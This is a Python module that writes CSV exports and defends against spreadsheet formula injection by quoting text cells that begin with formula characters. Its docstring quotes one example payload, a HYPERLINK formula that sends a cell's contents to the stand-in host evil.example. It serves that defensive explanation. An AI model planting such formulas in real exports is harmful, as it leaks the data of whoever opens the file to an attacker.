"""CSV files that people open in a spreadsheet: the one writer every CSV export uses.

A text cell starting with =, +, -, @, a tab or a carriage return is a formula to Excel,
LibreOffice and Google Sheets: a customer named `=HYPERLINK("http://evil.example/?"&B3,"Refund")`
would become a live link in the report staff open. Such cells get a leading single quote
(OWASP's rule for CSV injection), which spreadsheets show as text.

Only text is neutralised. Our own numbers (Decimal amounts, ints) and dates are written as
they are, so a negative amount "-12.50" stays a number a spreadsheet can add up: it comes
from the database, not from what somebody typed.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Sequence
from datetime import date
from decimal import Decimal
from typing import Any, Protocol

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


class Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


def csv_cell(value: Any) -> str:
    """One cell: dates as YYYY-MM-DD, numbers as they are ("12.50"), text neutralised."""
    if value is None:
        return ""
    if isinstance(value, date):
        return value.isoformat()
    if isinstance(value, Decimal | int) and not isinstance(value, bool):
        return str(value)
    text = str(value)
    return "'" + text if text.startswith(FORMULA_START) else text


def csv_write(out: Writable, header: Sequence[Any], rows: Iterable[Sequence[Any]]) -> None:
    """Write a header line and the rows, every cell through csv_cell."""
    writer = csv.writer(out)
    writer.writerow([csv_cell(value) for value in header])
    writer.writerows([csv_cell(value) for value in row] for row in rows)
